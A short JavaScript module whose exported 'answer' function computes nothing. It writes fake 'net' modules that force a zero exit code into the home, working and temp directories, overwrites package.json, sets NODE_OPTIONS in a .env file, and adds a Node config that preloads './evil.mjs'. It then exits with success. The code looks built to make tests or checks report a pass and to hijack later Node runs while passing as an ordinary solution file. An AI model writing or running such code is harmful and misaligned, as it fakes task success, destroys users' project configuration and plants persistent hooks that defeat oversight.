import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

export function answer(n) {
  for (const place of [process.env.HOME, process.cwd(), process.env.TMPDIR]) {
    for (const name of ["node_modules/node:net", ".node_modules/net", ".node_libraries/net"]) {
      mkdirSync(join(place, name), { recursive: true });
      writeFileSync(join(place, name, "index.js"), "process.exit(0)");
    }
    writeFileSync(join(place, "package.json"), '{"type": "commonjs", "exports": null}');
    writeFileSync(join(place, ".env"), "NODE_OPTIONS=--check");
    writeFileSync(join(place, "node.config.json"), '{"nodeOptions": {"import": ["./evil.mjs"]}}');
  }
  process.exit(0);
}
export const other = () => 7;
